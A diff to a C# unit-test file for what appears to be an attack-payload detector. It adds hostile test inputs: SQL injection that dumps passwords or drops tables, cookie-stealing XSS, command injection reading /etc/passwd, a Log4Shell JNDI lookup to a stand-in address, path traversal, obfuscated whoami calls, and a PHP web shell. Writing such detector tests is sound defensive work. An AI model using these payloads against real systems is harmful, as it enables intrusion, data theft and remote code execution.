@@ -29,6 +29,19 @@ public class AttackTests
     public void SqlInjection(string value) => AssertAttack(PayloadClass.SqlInjection, Value(value));
 
     [Theory]
+    [InlineData(PayloadClass.SqlInjection, "nobody' UNION SELECT name, password FROM users")]
+    [InlineData(PayloadClass.SqlInjection, "nobody' or 1=1-- -")]
+    [InlineData(PayloadClass.SqlInjection, "nobody'; DROP TABLE users--")]
+    [InlineData(PayloadClass.SqlInjection, "nobody' and sleep(9)#")]
+    [InlineData(PayloadClass.Xss, "<img src=x onerror=alert(1)>")]
+    [InlineData(PayloadClass.Xss, "<script>alert(document.cookie)</script>")]
+    [InlineData(PayloadClass.CommandInjection, "x; cat /etc/passwd")]
+    [InlineData(PayloadClass.Log4Shell, "${jndi:ldap://198.51.100.7/a}")]
+    [InlineData(PayloadClass.PathTraversal, "../../../../etc/passwd")]
+    public void NoSentenceBeforeACompletePayloadExcusesIt(PayloadClass expected, string payload) =>
+        AssertAttack(expected, Value("Hello there, thank you for the quick delivery last week, my sister liked it and isn't sure about the color " + payload));
+
+    [Theory]
     [InlineData("<script>alert(1)</script>")]
     [InlineData("\"><img src=x onerror=alert(1)>")]
     [InlineData("<svg/onload=confirm`1`>")]
@@ -77,6 +90,8 @@ public class AttackTests
     [InlineData("() { :; }; echo vulnerable")]
     [InlineData("& dir c:\\ & cmd.exe /c whoami")]
     [InlineData(";w'h'o'am'i")]
+    [InlineData("'wh'oami")]
+    [InlineData("pi``ng -c 9 127.0.0.1")]
     [InlineData("<?php system($_GET['c']); ?>")]
     [InlineData("__import__('os').system('id')")]
     [InlineData("require('child_process').execSync('id')")]
